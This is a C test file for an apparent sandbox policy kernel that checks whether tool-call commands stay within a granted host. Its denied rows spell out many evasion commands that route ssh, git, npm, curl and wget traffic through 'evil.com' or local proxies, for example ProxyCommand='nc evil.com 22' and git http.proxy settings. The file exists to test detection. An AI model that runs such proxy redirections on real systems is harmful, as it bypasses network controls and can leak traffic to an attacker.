/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tests/kernel/test_rev62_hostkv.c - review 22 "hosts": the KEY VALUE
 * readings of a leaf's words (src/kernel/leaf_host_kv.c):
 *   - M1: the reading after "-o", "config" and "set" was armed in every
 *     program ("gcc -o server server.c" denied); now only in a call that
 *     could run ssh/scp/sftp, or git/npm/yarn/pnpm/pip;
 *   - H2: ssh's -o spellings ("-oProxyJump evil.com", "ProxyJump =
 *     evil.com", "ProxyJump= evil.com", argv elements) and ProxyCommand's
 *     command line were not read;
 *   - H3: git config's -f, "--", "set --append", http.<url>.proxy,
 *     core.gitProxy/core.sshCommand and npm's --location= were not read;
 *   - H4: curl config text ("proxy = H", "proxy: H", "proxy \"H\"",
 *     a printf format) was not read;
 *   - H6: "KEY+=", "printf -v", "read KEY <<<", wget's --execute= and
 *     "KEY = VALUE", git's --config-env and GIT_CONFIG_KEY_n;
 *   - H7: the address 0 ("0", "00", "0x0": 0.0.0.0, this host) as a
 *     host option's whole value was no host.
 * The grant is domain_exact api.example.com; every call carries its URL.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "kernel/hostcost.h"
#include "kernel/kernelutil.h"

#define NOW      1710000300u
#define DX       KT_DX("api.example.com")
#define NROWS(a) (sizeof(a) / sizeof((a)[0]))

Test(rev62_hostkv, m1_key_value_after_o_and_set_is_armed_only_for_ssh_and_config_programs)
{
    static const kt_row rows[] = {
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"gcc -o server server.c\"}", 1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"gcc -o proxy proxy.c util.c\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"cc -o host host.c\"}", 1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"clang -o remote remote.c\"}", 1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"sort -o server.log server.log\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"redis-cli set host db.internal\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'set origin main.py'\"}", 1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"go build -o server ./cmd/server\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -sSo proxy.log "
         "https://api.example.com/\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"set -o pipefail; echo hi\"}", 1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config set server.port 8080\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"make -o host.o all\"}", 1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o ServerAliveInterval 60 -o "
         "ServerAliveCountMax=0 user@api.example.com\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config user.name 'Bob Smith'\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o ProxyJump evil.com host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"/usr/bin/SSH.exe -o ProxyJump "
         "evil.com host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config --global http.proxy "
         "evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"tool\": \"ssh\", \"args\": [\"-o\", "
         "\"ProxyJump evil.com\"]}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"command\": \"git\", \"args\": [\"config\", "
         "\"http.proxy\", \"evil.com:3128\"]}",
         0},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

Test(rev62_hostkv, h2_ssh_o_spellings_and_proxycommand_are_read)
{
    static const kt_row rows[] = {
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -oProxyJump=evil.com host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh '-oProxyJump evil.com' host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o'ProxyJump evil.com' host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -oProxyJump\\\\ evil.com host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'ProxyJump = evil.com' host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'ProxyJump= evil.com' host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'ProxyJump =evil.com' host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"scp -o 'ProxyJump= evil.com' a "
         "host:b\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sftp '-oProxyJump evil.com' host\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o ProxyCommand='nc evil.com 22' "
         "api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'ProxyCommand=ssh -W %h:%p "
         "evil.com' api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"args\": [\"ssh\", \"-oProxyJump evil.com\", "
         "\"host\"]}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"args\": [\"ssh\", \"-o\", \"ProxyJump = "
         "evil.com\", \"host\"]}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"args\": [\"ssh\", \"-o\", \"ProxyCommand=nc "
         "evil.com 22\", \"host\"]}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o ProxyCommand=nc\\\\ "
         "evil.com\\\\ 22 api.example.com\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'ProxyJump api.example.com' -o "
         "'StrictHostKeyChecking no' api.example.com\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o 'ProxyCommand ssh -W %h:%p "
         "api.example.com' api.example.com\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"ssh -o ConnectTimeout=10 -o "
         "ServerAliveInterval=30 api.example.com\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git -c core.sshCommand='ssh -i "
         "deploy_key.pem -F ssh.conf' fetch && ssh -o 'ProxyCommand=ssh -i id.pem -W %h:%p "
         "api.example.com' api.example.com\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

Test(rev62_hostkv, h3_git_and_npm_config_spellings_are_read)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config -f .git/config http.proxy "
         "evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config --global -- http.proxy "
         "evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config "
         "http.https://api.example.com/.proxy evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config set --append http.proxy "
         "evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config --global core.gitProxy 'nc "
         "evil.com'\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config --global core.sshCommand "
         "'ssh -AJ evil.com'\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"npm config set --location=global "
         "proxy evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config --file=x --type bool "
         "http.proxy evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config http.sslVerify false && "
         "git config core.editor vim\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"npm config set registry "
         "https://api.example.com/npm/\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git config -f proxy.cfg user.name "
         "bob\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"git pull; set -e; host db.internal\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

Test(rev62_hostkv, h4_curl_config_text_is_read)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy=127.0.0.1:18222' | curl "
         "-K - https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy = 127.0.0.1:18222' | curl "
         "-K - https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy: 127.0.0.1:18222' | curl "
         "-K - https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy \\\"127.0.0.1:18222\\\"' "
         "| curl -K - https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'proxy = %s\\\\n' "
         "127.0.0.1:18222 | curl -K - https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'see proxy: docs' && curl -H "
         "'Content-Type: application/json' https://api.example.com/\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy = api.example.com:3128' | "
         "curl -K - https://api.example.com/\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"grep -rn 'server =' settings.py && "
         "grep host \\\"setup.py\\\"\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"grep 'proxy:' notes.md config.yaml; "
         "grep 'host=' app.cfg\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

Test(rev62_hostkv, h6_other_proxy_spellings_are_read)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"export http_proxy=127.0.0.1:18222; "
         "curl http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"export http_proxy+=127.0.0.1:18222; "
         "curl http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf -v http_proxy 127.0.0.1:18222; "
         "export http_proxy; curl http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"read http_proxy <<< 127.0.0.1:18222; "
         "export http_proxy; curl http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"wget -e http_proxy=127.0.0.1:18222 "
         "http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"wget "
         "--execute=http_proxy=127.0.0.1:18222 http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"wget -e 'http_proxy = "
         "127.0.0.1:18222' http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"P=127.0.0.1:18222 git "
         "--config-env=http.proxy=P ls-remote http://api.example.com/r\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"GIT_CONFIG_COUNT=1 "
         "GIT_CONFIG_KEY_0=http.proxy GIT_CONFIG_VALUE_0=127.0.0.1:18222 git ls-remote "
         "http://api.example.com/r\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf -v msg '%s' done; read line "
         "<<< hello; git --config-env=user.name=N log\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"NO_PROXY='api.example.com,localhost' "
         "curl --noproxy 'localhost,127.0.0.1' https://api.example.com/\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

Test(rev62_hostkv, h7_the_address_0_as_a_host_value_is_a_host)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -x 0.0 "
         "https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -x 0 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -sx 0 "
         "https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl --proxy 0 "
         "https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -x 0x0 "
         "https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -x 00 "
         "https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"http_proxy=0 curl "
         "http://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"args\": [\"curl\", \"-x\", \"0\", "
         "\"https://api.example.com/\"]}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"args\": [\"curl\", \"-x\", 0, "
         "\"https://api.example.com/\"]}",
         0},
        {DX, "{\"url\": \"https://api.example.com/\", \"proxy\": \"0\"}", 0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl -x '' --max-time 0 -o out.txt "
         "https://api.example.com/\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"sleep 0; echo 0 10:30:00\"}", 1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* CPU time held to a ratio: 4 times the bytes may cost about 4 times the
 * time (quadratic: 16) */
Test(rev62_hostkv, key_value_readings_cost_linear_time)
{
    static const char *const tools[] = {"t"};
    static const char *const cases[][2] = {
        {"ssh ", "-o a "}, {"git ", "git config -f x "}, {"curl -K - ", "proxy = "}};
    chio_kernel *k = kt_echo_kernel(NULL, hc_clock, "srv", tools, 1);
    char sid[CHIO_SESSION_ID_LEN + 1];
    double t1, t4;
    size_t i;

    kt_grant_session(k, NOW, "cap-cost", DX, sid);
    for (i = 0; i < NROWS(cases); i++) {
        (void)hc_call_cpu(k, sid, "cmd", cases[i][0], cases[i][1], "", 1 << 16); /* warm */
        t1 = hc_call_cpu(k, sid, "cmd", cases[i][0], cases[i][1], "", 1 << 18);
        t4 = hc_call_cpu(k, sid, "cmd", cases[i][0], cases[i][1], "", 1 << 20);
        cr_expect_lt(t4, 8 * t1 + 0.05, "'%s': 256 KiB took %.4f s, 1 MiB %.4f s (ratio %.1f)",
                     cases[i][1], t1, t4, t4 / (t1 > 0 ? t1 : 1e-9));
    }
    chio_kernel_free(k);
}
